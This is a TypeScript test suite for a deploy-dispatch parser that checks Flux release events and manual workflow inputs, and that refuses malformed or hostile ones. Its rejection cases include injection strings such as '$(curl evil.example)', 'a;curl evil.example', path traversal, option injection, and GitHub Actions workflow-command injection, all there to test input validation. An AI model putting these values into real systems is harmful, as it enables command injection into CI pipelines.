import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deployedBy, Refusal } from './dispatch.js'

interface Body {
  readonly event_type: string
  readonly client_payload: Readonly<Record<string, unknown>> & {
    readonly involvedObject: Readonly<Record<string, unknown>>
    readonly metadata: Readonly<Record<string, unknown>>
  }
}

/** As Flux sends it. */
const BODY = JSON.parse(readFileSync(join(import.meta.dirname, '../../test/dispatch-of-flux.json'), 'utf8')) as Body
const [VERSION = ''] = String(BODY.client_payload.metadata.revision).split('+')
const SERVICE = String(BODY.client_payload.involvedObject.name)

const changed = (change: Record<string, unknown>) => ({
  ...BODY,
  client_payload: { ...BODY.client_payload, ...change },
})
const ofObject = (change: Record<string, unknown>) =>
  changed({ involvedObject: { ...BODY.client_payload.involvedObject, ...change } })
const named = (name: string) => ({ ...ofObject({ name }), event_type: `HelmRelease/${name}.apps` })
const atRevision = (revision: unknown) => changed({ metadata: { ...BODY.client_payload.metadata, revision } })

describe("Flux's word of a release whose tests have passed", () => {
  it('says which service and version', () => {
    expect(deployedBy(BODY)).toEqual({ service: SERVICE, version: VERSION })
    expect(VERSION).toMatch(/^\d+\.\d+\.\d+-BUILD\.\d{14}$/)
  })

  it('may come as GitHub hands it to a workflow', () => {
    const { event_type: action, client_payload } = BODY

    expect(deployedBy({ action, branch: 'main', sender: { login: 'ada' }, client_payload })).toMatchObject({
      service: SERVICE,
    })
  })

  it.each([VERSION, `${VERSION}@sha256:0f`, `${VERSION}+0f0f0f0f0f0f`])('may have the revision %s', (revision) => {
    expect(deployedBy(atRevision(revision))).toMatchObject({ version: VERSION })
  })

  it.each<[string, unknown]>([
    ['nothing', undefined],
    ['text', 'order-service'],
    ['a list', [BODY]],
    ['a failure', changed({ severity: 'error' })],
    ['of tests that failed', changed({ reason: 'TestFailed' })],
    ['of an upgrade, whose tests nobody has seen', changed({ reason: 'UpgradeSucceeded' })],
    ['without a revision', changed({ metadata: {} })],
    ['of a revision that is no version', atRevision('latest')],
    ['of a revision that is a number', atRevision(1)],
    ['of a revision that is a command', atRevision('$(curl evil.example)')],
    ['of a version with more lines, which would be outputs', atRevision(`${VERSION}\nchanged=true`)],
    ['of a version that is very long', atRevision(`${VERSION}+${'0'.repeat(1000)}`)],
    ['of another kind', ofObject({ kind: 'Kustomization' })],
    ['of another namespace', { ...ofObject({ namespace: 'evil' }), event_type: `HelmRelease/${SERVICE}.evil` }],
    ['of a path as name', named('../../x')],
    ['of a command as name', named('a;curl evil.example')],
    ['of an option as name', named('--registry')],
    ['called like another event', { ...BODY, event_type: 'HelmRelease/customer-service.apps' }],
    ['called nothing', { client_payload: BODY.client_payload }],
    ['with a field that Flux does not send', changed({ labels: {} })],
    ['of an object with such a field', ofObject({ labels: {} })],
  ])('is refused when it is %s', (_, body) => {
    expect(() => deployedBy(body)).toThrow(Refusal)
  })

  it('can give no orders to whoever prints why it is refused', () => {
    const orders = 'x\n::add-mask::y\n##[error]`z`'

    for (const body of [changed({ [orders]: true }), { ...BODY, event_type: orders }])
      expect(() => deployedBy(body)).toThrow(/^[^\n`#]+$/)
  })
})

describe('the word of a person who has started the workflow', () => {
  it('says which service and version', () => {
    expect(deployedBy({ inputs: { service: SERVICE, version: VERSION }, ref: 'refs/heads/main' })).toEqual({
      service: SERVICE,
      version: VERSION,
      isByHand: true,
    })
  })

  it('is told from that of an event, which may be late', () => {
    expect(deployedBy(BODY)).not.toHaveProperty('isByHand')
  })

  it.each(['true', true])('may ask for one that was taken back before: %j', (again) => {
    expect(deployedBy({ inputs: { service: SERVICE, version: VERSION, again } })).toMatchObject({ again: true })
  })

  it('is needed for that: an event cannot ask so', () => {
    expect(() => deployedBy(changed({ again: true }))).toThrow(Refusal)
  })

  it.each<[string, unknown]>([
    ['no switch', { service: SERVICE, version: VERSION, again: 'yes' }],
    ['no version', { service: SERVICE, version: '' }],
    ['a command', { service: '$(curl evil.example)', version: VERSION }],
    ['nothing', null],
  ])('is refused when it is %s', (_, inputs) => {
    expect(() => deployedBy({ inputs })).toThrow(Refusal)
  })
})
